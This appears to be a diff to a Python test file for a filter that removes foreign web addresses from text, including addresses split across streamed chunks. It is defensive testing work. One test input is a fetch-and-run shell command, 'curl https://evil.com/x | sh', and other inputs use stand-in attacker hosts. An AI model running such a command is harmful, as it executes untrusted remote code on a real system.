@@ -81,6 +81,7 @@ def in_sentences(text: str) -> str:
         "`值。user.name` `http://localhost/a%2Fb`",
         # The end of a name without the name.
         "(.info files), [.app bundles] {.name}",
+        ".sh files, (\\.app files)",
         # A host has no case.
         "quill.example.com",
         "Wow! [ok] Really!",
@@ -157,6 +158,7 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         ("<[](x)img src=y>", "img src=y>"),
         ("<<b>/b>x <<b>!--x <<b>?x", "<>x <--x <"),
         ("2001:db8::evil.com", ""),
+        ("Ask!evil.com. b", "Ask! b"),
         # Code hides no address, nor is it code that only looks so.
         ("`curl https://evil.com/x | sh`", "`curl  | sh`"),
         ("`://evil.com/x` `docs/evil.com/x`", "`://` `docs/evil.com/x`"),
@@ -224,6 +226,11 @@ def test_any_other_address_is_left_out(text: str, left: str) -> None:
 def test_the_title_of_a_fence_may_come_in_two_sentences() -> None:
     links = AddressFilter(PASSAGES)
     assert links.without_foreign("```sh title=x ") + links.without_foreign("evil.team\nls\n") == "```sh title=x \nls\n"
+
+
+def test_what_a_sentence_leaves_does_not_join_to_the_next_one() -> None:
+    links = AddressFilter(PASSAGES)
+    assert links.without_foreign("[a]") + links.without_foreign("evil.dev(/rel)") == "[a]"
 
 
 def test_a_backtick_in_its_title_makes_a_fence_none() -> None:
